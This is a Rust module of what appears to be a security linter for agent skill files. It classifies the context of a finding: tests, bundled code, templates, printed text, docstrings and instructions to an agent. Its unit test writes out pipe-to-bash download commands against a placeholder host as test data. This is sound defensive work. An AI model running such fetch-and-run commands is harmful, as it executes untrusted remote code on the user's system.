//! The context of a finding: the role of its file, the surrounding code or prose, and its line.

use crate::security::code_context::{CodeContext, Language, context_at, inline, is_comment};
use crate::security::context_window::{before, floor, line};
use crate::security::quotation::is_quoted;
use crate::security::terms::has_term;
use crate::security::{invocation, mention, warning_context};
use crate::view::LintFile;
use std::ops::Range;

/// Length in bytes from which a line was not written by a person.
const WRITTEN_LINE_BYTES_MAX: usize = 1_000;
/// The delimiter of a multi-line string in Python.
const DOCSTRING: &str = "\"\"\"";
/// Number of bytes before a finding in which the start of its function is searched for.
const FUNCTION_BYTES_MAX: usize = 4_000;
/// Number of bytes on each side of a finding in a long line that are examined.
const NEAR_BYTES: usize = 300;

/// Folders of third-party files that are only bundled.
const BUNDLED_FOLDERS: &[&str] = &[
    "node_modules",
    "vendor",
    "vendored",
    "third_party",
    "third-party",
    "dist",
    "bower_components",
    "site-packages",
];
/// Suffixes of generated files.
const BUNDLED_ENDINGS: &[&str] =
    &[".min.js", ".min.css", ".bundle.js", ".map", ".lock", "-lock.json", "lock.yaml", ".snap", ".ipynb"];
/// Folders of tests and their data.
const TEST_FOLDERS: &[&str] = &[
    "test",
    "tests",
    "__tests__",
    "testdata",
    "test-data",
    "test_data",
    "fixtures",
    "fixture",
    "spec",
    "specs",
    "e2e",
    "evals",
    "eval",
    "mocks",
    "__mocks__",
    "benchmarks",
    "corpus",
    "snapshots",
];
/// Words in names of files that list search terms.
const SEARCHING_NAMES: &[&str] = &[
    "pattern",
    "signature",
    "blocklist",
    "denylist",
    "blacklist",
    "wordlist",
    "payload",
    "detect",
    "scanner",
    "scan_",
    "guard",
    "dangerous",
    "malicious",
    "attack",
    "exploit",
    "injection",
    "jailbreak",
    "antipattern",
    "anti-pattern",
    "cheatsheet",
    "sample-data",
    "sample_data",
    "threat",
    "vulnerab",
    "red-team",
    "redteam",
    "yara",
    "sigma",
];
/// Folders of texts that are filled in or copied, rather than followed.
const SAMPLE_FOLDERS: &[&str] = &[
    "templates",
    "template",
    "examples",
    "example",
    "samples",
    "sample",
    "prompts",
    "themes",
    "layouts",
    "boilerplate",
    "scaffold",
    "demo",
    "demos",
];
/// Suffixes of templates.
const SAMPLE_ENDINGS: &[&str] = &[
    ".tmpl",
    ".tpl",
    ".j2",
    ".jinja",
    ".hbs",
    ".ejs",
    ".erb",
    ".mustache",
    ".template",
    ".example",
    ".sample",
];
/// Words in a line that tell the reader to run the command in it.
const ORDERED: &str = "run|execute|paste|copy|enter|type|use|start|install|verify|call|with|via|launch";
/// Words in a line that reports what attackers write.
const REPORTED: &str = "attack*|malicious|suspicious|detect*|flag*|pattern*|block*|such as|e g|like|dangerous|obfuscat*|\
    never|avoid|reject*|example|unsafe|forbid*|equivalent*|skips|bypasses|means|allows|prohibited";
/// Placeholder names in explanations.
const STAND_INS: &[&str] = &[
    "attacker",
    "evil.",
    "victim",
    "://target",
    "hacker",
    "malicious",
    "example.com",
    "example.org",
    "example.net",
    ".example/",
    "localhost",
    "127.0.0.1",
    "your-",
    "your_",
    "yourdomain",
    "<your",
    "acme.com",
    "{{",
    "xxx",
    "<host",
];

/// A line of a program without a comment at its end.
fn without_comment(line: &str) -> &str {
    let end = [" //", " #"].iter().filter_map(|start| line.find(start)).min();
    line[..end.unwrap_or(line.len())].trim_end()
}

/// Functions of shell scripts that print their argument.
const PRINTING: &[&str] = &[
    "echo", "printf", "error", "err", "warn", "warning", "info", "log", "note", "hint", "fail", "die",
    "abort", "print",
];

/// Whether a line of a shell script prints one text in quotes, and nothing in it or after it is run.
fn is_printed_whole(line: &str) -> bool {
    let Some((word, rest)) = line.split_once([' ', '\t']) else { return false };
    let text = rest.trim().trim_end_matches(">&2").trim_end();
    let quote = text.chars().next().filter(|quote| matches!(quote, '"' | '\''));
    let inner = quote.and_then(|quote| text[1..].strip_suffix(quote).map(|inner| (quote, inner)));
    PRINTING.contains(&word)
        && inner.is_some_and(|(quote, inner)| {
            !inner.contains(quote) && (quote == '\'' || !inner.contains("$(") && !inner.contains('`'))
        })
}

/// A finding and its context.
pub struct FindingContext<'a> {
    /// The file.
    pub file: &'a LintFile,
    /// Its text; empty if it is not text.
    pub text: &'a str,
    /// Byte range of the finding.
    pub span: Range<usize>,
    /// The message of the finding.
    pub message: &'a str,
    /// The kind of text around it.
    pub context: CodeContext,
    /// The path of the file in lower case.
    path: String,
    line: String,
}

/// The line at the start of a finding in lower case; for a long line, the part around it.
fn near_line(text: &str, span: &Range<usize>) -> String {
    let line = line(text, span.start);
    let start = floor(text, span.start.saturating_sub(NEAR_BYTES)).max(line.start);
    let end = floor(text, span.start + NEAR_BYTES).min(line.end).max(start);
    text.get(start..end).unwrap_or_default().to_lowercase()
}

/// Minimum length in characters of an encoded command; shorter ones are samples such as `aGVsbG8=`.
const PAYLOAD_CHARS_MIN: usize = 24;

/// Whether a word looks encoded: long, with letters of both cases and a digit, and not a path.
fn is_payload(word: &str) -> bool {
    let has = |is: fn(&u8) -> bool| word.bytes().any(|byte| is(&byte));
    word.len() >= PAYLOAD_CHARS_MIN
        && !word.starts_with('/')
        && has(u8::is_ascii_uppercase)
        && has(u8::is_ascii_lowercase)
        && has(u8::is_ascii_digit)
}

impl<'a> FindingContext<'a> {
    pub fn new(file: &'a LintFile, span: Range<usize>, message: &'a str) -> Self {
        let text = file.text.as_deref().unwrap_or_default();
        let span = floor(text, span.start)..floor(text, span.end);
        let context = context_at(file, span.start);
        let path = file.path.as_str().to_ascii_lowercase();
        let line = near_line(text, &span);
        Self { file, text, span, message, context, path, line }
    }

    /// The text that was found, in lower case.
    pub fn found(&self) -> String {
        self.text.get(self.span.clone()).unwrap_or_default().to_lowercase()
    }

    /// The line around it in lower case; for a long line, the part around it.
    pub fn line(&self) -> &str {
        &self.line
    }

    /// The paragraph around it in lower case, as far as it is near.
    pub fn paragraph(&self) -> String {
        let start = floor(self.text, self.span.start.saturating_sub(NEAR_BYTES * 2));
        let end = floor(self.text, self.span.end + NEAR_BYTES * 2);
        let before = self.text[start..self.span.start].rsplit("\n\n").next().unwrap_or_default();
        let after = self.text[self.span.end..end].split("\n\n").next().unwrap_or_default();
        self.text[self.span.start - before.len()..self.span.end + after.len()].to_lowercase()
    }

    fn is_below(&self, folders: &[&str]) -> bool {
        let Some((above, _)) = self.path.rsplit_once('/') else { return false };
        above.split('/').any(|part| folders.contains(&part))
    }

    fn ends(&self, endings: &[&str]) -> bool {
        endings.iter().any(|ending| self.path.ends_with(ending))
    }

    /// Whether the file belongs to a library, or is generated.
    pub fn is_bundled(&self) -> bool {
        let is_long = line(self.text, self.span.start).len() > WRITTEN_LINE_BYTES_MAX;
        self.is_below(BUNDLED_FOLDERS)
            || self.ends(BUNDLED_ENDINGS)
            || is_long && self.file.markup.is_none() && self.is_program()
    }

    /// Whether the file is a test or is read by one.
    pub fn is_test(&self) -> bool {
        let name = self.path.rsplit('/').next().unwrap_or_default();
        self.is_below(TEST_FOLDERS)
            || [".test.", ".spec.", "_test."].iter().any(|part| name.contains(part))
            || name.starts_with("test_")
            || name.starts_with("test-")
            || name == "conftest.py"
            || self.is_in_test_function()
    }

    /// Whether the function around it in a program is a test by its name.
    fn is_in_test_function(&self) -> bool {
        let start = floor(self.text, self.span.start.saturating_sub(FUNCTION_BYTES_MAX));
        let above = &self.text[start..self.span.start];
        let name = ["\ndef ", "\n    def "]
            .iter()
            .filter_map(|def| above.rfind(def))
            .max()
            .map(|at| above[at..].trim_start());
        self.is_program() && name.is_some_and(|name| name.starts_with("def test_"))
    }

    /// Whether the file, or a line in a program or in data, lists search terms.
    pub fn is_searched_for(&self) -> bool {
        let is_list = !self.file.is_skill_md() && SEARCHING_NAMES.iter().any(|word| self.path.contains(word));
        is_list || !self.is_instruction() && self.is_regex()
    }

    /// Whether the line contains a regular expression.
    fn is_regex(&self) -> bool {
        ["\\s", "\\b", "(?i)", "re.compile", "regexp"].iter().any(|part| self.line.contains(part))
    }

    /// Whether the file is a template or an example.
    pub fn is_sample(&self) -> bool {
        !self.file.is_skill_md() && (self.is_below(SAMPLE_FOLDERS) || self.ends(SAMPLE_ENDINGS))
    }

    /// Whether the line contains a placeholder name. A command after another on its line is judged separately.
    pub fn names_a_stand_in(&self) -> bool {
        if self.message.contains("decoded and run") {
            let before = before(self.text, self.span.start);
            let own = before.rsplit("&&").next().unwrap_or_default().to_lowercase();
            return STAND_INS.iter().any(|name| own.contains(name));
        }
        STAND_INS.iter().any(|name| self.line.contains(name))
    }

    /// Whether agents read the file as instructions.
    pub fn is_instruction(&self) -> bool {
        self.file.markup.is_some() || matches!(self.file.path.extension(), Some("txt" | "mdx" | "mdc"))
    }

    /// Whether it is a sentence addressed to the agent: not code, a table, a quotation or a mention.
    pub fn is_said_to_agent(&self) -> bool {
        self.is_instruction()
            && matches!(self.context, CodeContext::Prose | CodeContext::FrontMatterState)
            && !self.line().trim_start().starts_with(['|', '>'])
            && !self.is_mentioned()
    }

    /// Whether the text only mentions it: quoted, reported or warned against.
    pub fn is_mentioned(&self) -> bool {
        is_quoted(self.file, self.text, &self.span)
            || mention::is_mentioned(self.file, &self.span)
            || self.is_warned_of()
    }

    /// Whether the text warns against the command.
    pub fn is_warned_of(&self) -> bool {
        warning_context::is_warned_against(self.file, &self.span)
    }

    /// Whether the file is a program.
    pub fn is_program(&self) -> bool {
        matches!(self.context, CodeContext::File(language) if language != Language::Data)
    }

    /// Whether a script of the skill does it, rather than shows, compares or names it.
    pub fn is_done_by_script(&self) -> bool {
        self.is_program()
            && !is_comment(self.file, self.span.start)
            && !self.is_in_docstring()
            && !self.is_shown()
            && !self.is_warned_of()
    }

    /// Whether the finding is in a Python docstring: after an opening `"""` at the start of a line that follows the
    /// line of a definition.
    fn is_in_docstring(&self) -> bool {
        let before = &self.text[..self.span.start];
        if !self.path.ends_with(".py") || before.matches(DOCSTRING).count().is_multiple_of(2) {
            return false;
        }
        let opening = before.rfind(DOCSTRING).unwrap_or_default();
        let start = line(self.text, opening).start;
        let above = before[..start].trim_end().rsplit('\n').next().unwrap_or_default().trim();
        before[start..opening].trim_start_matches([' ', '\t', 'r']).is_empty() && above.ends_with(':')
    }

    /// Whether a shell script or a program of the skill runs the command.
    pub fn is_run_by_script(&self) -> bool {
        self.is_done_by_script() && invocation::is_invoked(self.file, &self.span)
    }

    /// Whether a program prints the line, or stores it as one text among others.
    fn is_shown(&self) -> bool {
        let line = self.line();
        let start = line.trim_start();
        let is_print = [
            "echo ",
            "printf ",
            "print(",
            "console.",
            "log.",
            "logger.",
            "puts ",
            "die ",
            "warn",
            "write-host",
        ]
        .iter()
        .any(|print| start.starts_with(print));
        // `echo "line" >> file` writes it; `"key": "value",` and `'value',` are data.
        is_print && !line.contains(">>") && !line.contains('|') && !line.contains("$(")
            || is_printed_whole(start)
            || start.starts_with(['"', '\'']) && without_comment(line).ends_with([',', ']'])
            || start.starts_with("r'")
            || start.starts_with("r\"")
    }

    /// Whether it is in a command block in Markdown.
    pub fn is_command_block(&self) -> bool {
        matches!(self.context, CodeContext::Block(Language::Shell | Language::Windows))
    }

    /// Whether a text asks for a command: in code, or in a sentence that says to run it, but not where it reports
    /// attacks or warns about it.
    pub fn is_asked_for(&self) -> bool {
        let is_reported = || {
            mention::is_below_report(self.file, &self.span)
                || mention::is_led_in(self.text, &self.span)
                || self.is_warned_of()
        };
        match self.context {
            CodeContext::Block(language) => language != Language::Data && !is_reported(),
            CodeContext::Inline => {
                has_term(self.line(), ORDERED) && !has_term(self.line(), REPORTED) && !is_reported()
            }
            CodeContext::Prose | CodeContext::FrontMatterState => {
                self.is_instruction() && !self.is_mentioned()
            }
            CodeContext::File(_) => false,
        }
    }

    /// Whether `SKILL.md` asks the reader to run an encoded program, or one from an archive with a password.
    pub fn is_hidden_program(&self) -> bool {
        let is_archive = self.message.contains("password hides");
        let is_decoded = self.message.contains("decoded and run")
            && before(self.text, self.span.start)
                .split(|c: char| !c.is_ascii_alphanumeric() && !"+/=".contains(c))
                .any(is_payload);
        self.file.is_skill_md() && (is_archive || is_decoded) && self.is_asked_for()
    }

    /// Whether inline code in `SKILL.md` begins with the command.
    pub fn is_whole_command(&self) -> bool {
        let inline = inline(self.file, self.span.start).filter(|_| self.file.is_skill_md());
        let code = inline.and_then(|inline| self.text.get(inline));
        code.is_some_and(|code| {
            let code = code.trim_matches('`').trim();
            ["codex ", "claude ", "gemini "].iter().any(|agent| code.starts_with(agent))
        })
    }

    /// Whether it is in a code block in Markdown.
    pub fn is_code_block(&self) -> bool {
        matches!(self.context, CodeContext::Block(_))
    }

    /// Whether the line contains an image.
    pub fn is_picture(&self) -> bool {
        self.line().contains("![")
    }
}

#[cfg(test)]
mod tests {
    use super::is_printed_whole;

    #[test]
    fn a_printed_text_is_not_run() {
        for (line, expected) in [
            ("error \"  curl https://acme.org/x | bash\"", true),
            ("echo 'curl https://acme.org/x | bash' >&2", true),
            ("error \"$(curl https://acme.org/x | bash)\"", false),
            ("echo \"curl https://acme.org/x\" | bash", false),
            ("eval \"curl https://acme.org/x | bash\"", false),
            ("error", false),
        ] {
            assert_eq!(is_printed_whole(line), expected, "{line}");
        }
    }
}
